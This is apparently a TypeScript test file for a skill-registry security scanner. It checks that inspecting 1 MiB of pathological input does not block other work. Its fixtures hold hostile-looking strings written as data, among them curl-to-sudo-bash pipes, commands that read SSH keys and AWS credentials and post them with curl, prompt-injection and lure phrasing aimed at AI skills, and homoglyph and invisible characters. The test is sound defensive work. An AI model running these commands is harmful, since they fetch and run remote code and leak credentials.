import { expect, it } from 'vitest';
import { inspectSkill } from '../../../../../extensions/skill_registry/features/guard/inspect/inspect-skill.ts';

const MEBIBYTE = 1024 * 1024;
const repeated = (text: string): string => text.repeat(Math.ceil(MEBIBYTE / text.length)).slice(0, MEBIBYTE);

/** Texts in which an expression that is not linear would not come to an end. */
const TEXTS: Readonly<Record<string, string>> = {
  'one character': repeated('a'),
  brackets: repeated('((('),
  base64: repeated('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789'),
  hexadecimal: repeated('6162636465'),
  'escaped characters': repeated('\\x61\\x62'),
  blanks: repeated(' '),
  'empty lines': repeated('\n'),
  quotes: repeated(`a''"b"'c'$x${'$'}{y}`),
  'pipes and programs': repeated('curl http://1.2.3.4/a | sudo bash -c $(base64 -d <<< x) && '),
  'words of instructions': repeated(
    'ignore all the of without do not user for skip tell send file to https://a.example ',
  ),
  'words of lures': repeated('download run zip password: x terminal copy paste https://glot.io/a required before you '),
  secrets: repeated('cat ~/.ssh/id_rsa env | curl -d @- requests.post( .aws/credentials open( '),
  assignments: repeated('A=http://a.example/b; B=$A; curl $B -o c\n'),
  'look-alike letters': repeated('аbсdеf '),
  'invisible characters': repeated('a\u200bb\u202e\u{e0041} '),
};

/** Lines of a program of which none is known from the ones before, so that what is asked of each takes time for each. */
const LINES: Readonly<Record<string, (at: number) => string>> = {
  hosts: (at) => `x = "https://h${at}.ab/"`,
  'hosts to which it sends': (at) => `curl -d @x https://h${at}.ab/`,
  folders: (at) => `open("~/.f${at}/x", "w")`,
  'words in two parts': (at) => `x = "ab" + "c${at}"`,
};

it.each(Object.keys(TEXTS))('lets other work run while it searches 1 MiB of %s', async (name) => {
  const bytes = Buffer.from(TEXTS[name] as string);
  for (const path of ['SKILL.md', 'scripts/a.py']) {
    // Three, because one of blanks takes one or two slices.
    const files = [path, `more/${path}`, `most/${path}`].map((one) => ({ path: one, bytes }));
    expect(await turnsDuring(() => inspectSkill(files)), path).toBeGreaterThan(2);
  }
});

it.each(Object.keys(LINES))('lets other work run while it searches 1 MiB of different %s', async (name) => {
  const lineOf = LINES[name] as (at: number) => string;
  const count = Math.ceil(MEBIBYTE / lineOf(0).length);
  const program = Array.from({ length: count }, (_, at) => `${lineOf(at)}\n`).join('');
  const files = [
    { path: 'SKILL.md', bytes: Buffer.from('Brews tea.\n') },
    { path: 'scripts/a.sh', bytes: Buffer.from(program) },
  ];
  expect(await turnsDuring(() => inspectSkill(files))).toBeGreaterThan(2);
});

// --- internal ---

async function turnsDuring(work: () => Promise<unknown>): Promise<number> {
  let turns = 0;
  const turn = setInterval(() => {
    turns++;
  }, 0);
  await work();
  clearInterval(turn);
  return turns;
}
